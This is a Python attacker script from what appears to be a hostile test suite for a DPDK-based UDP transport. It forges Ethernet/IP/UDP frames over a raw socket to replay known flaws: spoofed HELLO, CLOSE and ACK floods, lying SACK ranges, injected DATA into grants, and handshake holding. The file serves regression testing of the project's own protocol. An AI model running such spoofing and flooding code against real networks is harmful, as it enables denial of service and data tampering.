#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The attacker of tests/hostile/dpdk: a host on the same L2 segment as a
dpdk listener and its client, with a raw AF_PACKET socket. It sees what the
bridge floods (the client's broadcast HELLO; everything when the bridge is a
hub, "tap"), forges frames, and prints what it did as "ATTACK key=value".

usage: attack.py IFACE MODE [key=value ...]
modes (the finding of issue 17 each one replays):
  sackfreeze  1: a HELLO from a made-up source, then ACKs whose 16 SACK
              ranges wrap (start una+2^31-1, end una-2)
  closeflood  2: CLOSE frames to the listener (psn 1..1M step 4096) and to
              the client (2047 frames, step 4096), as the other side
  credits0    2: ACKs with credits=0 to both ends (count=, rate=)
  grantwrite  3: (tap) DATA frames into the grant seen on the wire: 0xEE
              into block 0 (blk=0), or outside it (blk=N)
  sacklie     4: a flood of ACKs with false SACK ranges to the sender
              (secs=, rate=; tap=1 learns the real ids and psns first)
  helloflood  5: HELLOs from new made-up sources (secs=, rate=)
  heldflood   6: flows from made-up sources (n=), each sending out-of-order
              control frames (frames=, size=)
  hold        5: flows from made-up sources (n=) kept in the handshake (secs=)
A made-up source that is answered (a cookie challenge, a WELCOME) answers
back as a client would: the attacker receives what is sent to the MAC it
made up, since the bridge learnt that MAC on its port."""
import os, random, select, signal, socket, struct, sys, time

STOP = []  # set by SIGTERM: the test's honest pair is done, say what was done and end


def live(t_end):
    return not STOP and time.time() < t_end

MAGIC = 0x3157564B
HDR = struct.Struct("<IBBBBIIII")  # magic major minor type flags len ep_id psn ack
T_HELLO, T_WELCOME, T_GRANT, T_DATA, T_CLOSE, T_ACK = 1, 2, 8, 9, 16, 17
F_ACKV, F_MAC, F_ID = 0x01, 0x08, 0x80
ETH_P_ALL = 3
BCAST = b"\xff" * 6

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF

def ip2b(ip):
    return socket.inet_aton(ip)

def frame(dmac, smac, sip, dip, sport, dport, kvw):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(kvw), 0) + kvw
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0x4000, 64, 17, 0, sip, dip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dmac + smac + b"\x08\x00" + ip + udp

def kvw(typ, flags, body, ep_id=0, psn=0, ack=0):
    return HDR.pack(MAGIC, 1, 1, typ, flags, len(body), ep_id & 0xFFFFFFFF,
                    psn & 0xFFFFFFFF, ack & 0xFFFFFFFF) + body

def hello_body():
    return struct.pack("<IIIIQ", 0, 1, 0, 0, 0) + os.urandom(32) + b"dpdk".ljust(16, b"\0")

def ack_body(cum, ranges, credits=8192):
    b = struct.pack("<IIIIQ", cum & 0xFFFFFFFF, len(ranges), credits, 0, 0)
    for s, e in ranges:
        b += struct.pack("<II", s & 0xFFFFFFFF, e & 0xFFFFFFFF)
    return b + b"\0" * (8 * (16 - len(ranges)))

class Pkt:
    __slots__ = ("dmac", "smac", "sip", "dip", "sport", "dport", "typ", "flags", "len",
                 "ep_id", "psn", "ack", "body")

def parse(f):
    if len(f) < 14 + 28 + 24 or f[12:14] != b"\x08\x00" or f[14] != 0x45 or f[23] != 17:
        return None
    p = Pkt()
    p.dmac, p.smac = f[0:6], f[6:12]
    p.sip, p.dip = socket.inet_ntoa(f[26:30]), socket.inet_ntoa(f[30:34])
    p.sport, p.dport = struct.unpack("!HH", f[34:38])
    m, _, _, p.typ, p.flags, p.len, p.ep_id, p.psn, p.ack = HDR.unpack(f[42:66])
    if m != MAGIC:
        return None
    p.body = f[66 + (24 if p.flags & F_MAC else 0):]
    return p

class Wire:
    def __init__(self, ifc):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.bind((ifc, 0))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        try:  # PACKET_IGNORE_OUTGOING: our own floods do not fill the receive queue
            self.s.setsockopt(263, 23, 1)
        except OSError:
            pass
        self.sent = 0

    def send(self, f):
        try:
            self.s.send(f)
            self.sent += 1
        except OSError:
            time.sleep(0.0005)  # the veth queue is full: the flood slows down

    def recv(self, timeout):
        r, _, _ = select.select([self.s], [], [], timeout)
        if not r:
            return None
        f, addr = self.s.recvfrom(65536)
        if addr[2] == socket.PACKET_OUTGOING:
            return None
        return parse(f)

    def drain(self, limit=100000):
        """What waits in the queue now (the newest last)."""
        out = []
        for _ in range(limit):
            try:
                f, addr = self.s.recvfrom(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                break
            p = parse(f) if addr[2] != socket.PACKET_OUTGOING else None
            if p:
                out.append(p)
        return out

    def wait(self, pred, timeout):
        end = time.time() + timeout
        while time.time() < end:
            p = self.recv(max(0.0, end - time.time()))
            if p and pred(p):
                return p
        return None

def say(**kw):
    print("ATTACK " + " ".join("%s=%s" % (k, v) for k, v in kw.items()), flush=True)

def learn_hello(w, port, timeout=60):
    """The client's broadcast HELLO: who talks to the listener on port."""
    p = w.wait(lambda p: p.typ == T_HELLO and p.dport == port, timeout)
    if not p:
        say(error="no_hello_seen")
        sys.exit(2)
    say(seen="hello", client="%s:%d" % (p.sip, p.sport), listener="%s:%d" % (p.dip, p.dport))
    return p

def made_up(i):
    mac = bytes([2, 0x77, (i >> 24) & 255, (i >> 16) & 255, (i >> 8) & 255, i & 255])
    ip = "10.%d.%d.%d" % (100 + (i >> 16) % 100, (i >> 8) & 255, 1 + (i & 255) % 254)
    return mac, ip, 20000 + i % 40000

class Flow:
    """A made-up client: HELLO, answers a cookie challenge, waits for the
    listener's first frame (its id and psn)."""
    def __init__(self, w, i, lip, lport):
        self.w, self.lip, self.lport = w, lip, lport
        self.mac, self.ip, self.port = made_up(i)
        self.cid = random.getrandbits(32) | 1
        self.isn = random.getrandbits(32)
        self.nxt = None
        self.srv_cid = self.srv_psn = None

    def out(self, body_kvw):
        return frame(BCAST, self.mac, ip2b(self.ip), ip2b(self.lip), self.port, self.lport, body_kvw)

    def mine(self, p):
        return p.dport == self.port and p.dip == self.ip

    def open(self, timeout=1.0):
        hb = hello_body()
        self.w.send(self.out(kvw(T_HELLO, 0, hb, psn=1)))  # a new flow, as the attacker
        end = time.time() + timeout
        while time.time() < end:
            p = self.w.wait(lambda p: self.mine(p) and p.typ in (T_ACK, T_WELCOME), end - time.time())
            if not p:
                break
            if p.typ == T_ACK and p.flags & F_ID and p.len == 0:  # a cookie challenge: answer it
                self.w.send(self.out(kvw(T_HELLO, F_ID, hb, ep_id=self.cid, psn=self.isn, ack=p.ack)))
                self.nxt = self.isn + 1
            elif p.typ == T_WELCOME:
                self.srv_psn = p.psn
                self.srv_cid = p.ack if p.flags & F_ID else p.ep_id
                if self.nxt is None:
                    self.nxt = 2  # no cookie: the old psn space from 1
                # acknowledged, the flow waits for AUTH (handshake_timeout_ms), not for acks
                self.w.send(self.out(kvw(T_ACK, F_ACKV, ack_body(p.psn + 1, []), ep_id=self.srv_cid,
                                         ack=p.psn + 1)))
                return True
        return False

def sackfreeze(w, a):
    lport = int(a.get("port", 7000))
    h = learn_hello(w, lport)
    n_acks = int(a.get("acks", 1))
    f = Flow(w, 1, h.dip, lport)
    if not f.open():
        say(flow="refused")  # no WELCOME to a made-up source: send to the guessed ids anyway
        f.srv_psn, f.srv_cid = 1, 0
    una = f.srv_psn
    ranges = [(una + 0x7FFFFFFF, una - 2)] * 16
    for _ in range(n_acks):
        w.send(f.out(kvw(T_ACK, 0, ack_body(una, ranges), ep_id=f.srv_cid)))
    say(flow="open" if f.srv_cid is not None else "none", acks=n_acks, ranges=16)

def closeflood(w, a):
    lport = int(a.get("port", 7000))
    h = learn_hello(w, lport)
    time.sleep(float(a.get("delay", 3)))
    body = struct.pack("<iI", 0, 0)
    n = 0
    for psn in range(1, 1 << 20, 4096):  # to the listener, as the client
        w.send(frame(BCAST, h.smac, ip2b(h.sip), ip2b(h.dip), h.sport, h.dport,
                     kvw(T_CLOSE, 0, body, ep_id=random.getrandbits(32), psn=psn)))
        n += 1
    for k in range(2047):  # to the client, as the listener
        w.send(frame(h.smac, b"\x02\x00\x00\x00\x00\x01", ip2b(h.dip), ip2b(h.sip), h.dport,
                     h.sport, kvw(T_CLOSE, 0, body, ep_id=random.getrandbits(32), psn=1 + 4096 * k)))
        n += 1
    say(close_frames=n)

def pace(rate, i, t0):
    if rate and i % 64 == 0:
        ahead = i / rate - (time.time() - t0)
        if ahead > 0:
            time.sleep(ahead)

def credits0(w, a):
    lport = int(a.get("port", 7000))
    h = learn_hello(w, lport)
    time.sleep(float(a.get("delay", 3)))
    count, rate = int(a.get("count", 1)), float(a.get("rate", 0))
    body = ack_body(1, [], credits=0)
    to_l = frame(BCAST, h.smac, ip2b(h.sip), ip2b(h.dip), h.sport, h.dport, kvw(T_ACK, 0, body))
    to_c = frame(h.smac, b"\x02\x00\x00\x00\x00\x01", ip2b(h.dip), ip2b(h.sip), h.dport, h.sport,
                 kvw(T_ACK, 0, body))
    t0 = time.time()
    for i in range(count):
        w.send(to_l)
        w.send(to_c)
        pace(rate, i, t0)
    say(credit0_acks=2 * count, secs="%.1f" % (time.time() - t0))

def grantwrite(w, a):
    """Tap: copies the ids of the DATA frames it sees, forges DATA at a
    psn some way ahead of the newest one (not received yet: the
    honest frame of that psn is then dropped as a duplicate)."""
    lport = int(a.get("port", 7000))
    blk, count = int(a.get("blk", 0)), int(a.get("count", 40))
    every, ahead = float(a.get("every", 0.05)), int(a.get("ahead", 256))
    forged = 0
    t_end = time.time() + float(a.get("secs", 60))
    data = lambda p: p.typ == T_DATA and p.dport == lport and len(p.body) >= 24
    while forged < count and live(t_end):
        fresh = [p for p in w.drain() if data(p)]  # the newest DATA frame, not a stale one
        p = fresh[-1] if fresh else w.wait(data, 1)
        if not p:
            continue
        token, layer = struct.unpack("<II", p.body[:8])
        n = 1400 - 24 - 24 - (24 if p.flags & F_MAC else 0)
        body = struct.pack("<IIIIQ", token, layer, blk, n, 0) + b"\xee" * n
        w.send(frame(p.dmac, p.smac, ip2b(p.sip), ip2b(p.dip), p.sport, p.dport,
                     kvw(T_DATA, 0, body, ep_id=p.ep_id, psn=p.psn + ahead)))
        forged += 1
        time.sleep(every)
    say(forged_data=forged, blk=blk)

def sacklie(w, a):
    lport = int(a.get("port", 7000))
    h = learn_hello(w, lport)
    secs, rate, tap = float(a.get("secs", 20)), float(a.get("rate", 90000)), a.get("tap") == "1"
    time.sleep(float(a.get("delay", 2)))
    to_c = lambda cid, body: frame(h.smac, b"\x02\x00\x00\x00\x00\x01", ip2b(h.dip), ip2b(h.sip),
                                   h.dport, h.sport, kvw(T_ACK, 0, body, ep_id=cid))
    # blind: one range over half the psn space (the old driver clamped it to what it sent)
    pkt = to_c(random.getrandbits(32), ack_body(1, [(1, 0x7FFFFFF0)]))
    cid = cum = top = None
    t0, i, last_learn = time.time(), 0, 0.0
    while live(t0 + secs):
        if tap and time.time() - last_learn > 0.01:  # the live ids and psns, from the tap
            last_learn = time.time()
            for p in w.drain(4096):
                if p.typ == T_DATA and p.sport == h.sport:
                    top = p.psn + 1
                elif p.typ == T_ACK and p.dport == h.sport and len(p.body) >= 4:
                    cid, cum = p.ep_id, struct.unpack("<I", p.body[:4])[0]
            if cid is not None and top is not None and (top - cum) & 0xFFFFFFFF < 8192:
                pkt = to_c(cid, ack_body(cum, [(cum + 1, top)]))  # everything in flight "arrived"
        w.send(pkt)
        i += 1
        pace(rate, i, t0)
    say(lying_acks=w.sent, tried=i, rate="%.0f" % (w.sent / max(0.001, time.time() - t0)), tap=int(tap))

def helloflood(w, a):
    lport, lip = int(a.get("port", 7000)), a.get("lip", "10.0.0.1")
    secs, rate = float(a.get("secs", 20)), float(a.get("rate", 20000))
    t0, i, shown = time.time(), 0, 0.0
    hb = hello_body()
    while live(t0 + secs):
        mac, ip, port = made_up(1000 + i)
        w.send(frame(BCAST, mac, ip2b(ip), ip2b(lip), port, lport, kvw(T_HELLO, 0, hb, psn=1)))
        i += 1
        pace(rate, i, t0)
        if time.time() - shown > 1:  # the test may stop us at any time: say it as we go
            shown = time.time()
            say(hellos=i, rate="%.0f" % (i / max(0.001, shown - t0)))
    say(hellos=i, rate="%.0f" % (i / max(0.001, time.time() - t0)))

def heldflood(w, a):
    """All flows open first, then their frames interleaved, so that every
    flow holds its share at the same time (before the handshake limit)."""
    lport, lip = int(a.get("port", 7000)), a.get("lip", "10.0.0.1")
    nflows, nfr, size = int(a.get("n", 20)), int(a.get("frames", 8191)), int(a.get("size", 1400))
    body = b"\0" * (size - 28 - 24)
    flows, opened, sent = [], 0, 0
    for i in range(nflows):
        f = Flow(w, 500 + i, lip, lport)
        if f.open():
            opened += 1
        else:
            f.nxt, f.srv_cid = 2, 0  # as the attacker: psn 2.. of a flow from psn 1
        f.pre = f.out(kvw(T_GRANT, 0, body))[:42]  # eth+ip+udp: the same for every frame
        flows.append(f)
    t0 = time.time()
    for k in range(1, nfr + 1):  # psn nxt stays missing: all of them wait
        for f in flows:
            w.send(f.pre + kvw(T_GRANT, 0, body, ep_id=f.srv_cid, psn=f.nxt + k))
            sent += 1
    say(flows=nflows, answered=opened, held_frames=sent, size=size, secs="%.1f" % (time.time() - t0))

def hold(w, a):
    """Flows from made-up sources that answer the cookie, ack the WELCOME
    and then keep still: connections in the handshake."""
    lport, lip = int(a.get("port", 7000)), a.get("lip", "10.0.0.1")
    n, secs = int(a.get("n", 1)), float(a.get("secs", 20))
    opened = sum(1 for i in range(n) if Flow(w, 900 + i, lip, lport).open())
    say(held_flows=opened, of=n)
    t_end = time.time() + secs
    while live(t_end):
        time.sleep(0.1)

MODES = {m.__name__: m for m in (sackfreeze, closeflood, credits0, grantwrite, sacklie,
                                  helloflood, heldflood, hold)}

def main():
    if len(sys.argv) < 3 or sys.argv[2] not in MODES:
        print(__doc__)
        sys.exit(2)
    args = dict(kv.split("=", 1) for kv in sys.argv[3:])
    random.seed(int(args.get("seed", 17)))
    w = Wire(sys.argv[1])
    signal.signal(signal.SIGTERM, lambda *_: STOP.append(1))
    say(ready=1)  # the socket is open: the test starts the client now
    MODES[sys.argv[2]](w, args)

if __name__ == "__main__":
    main()
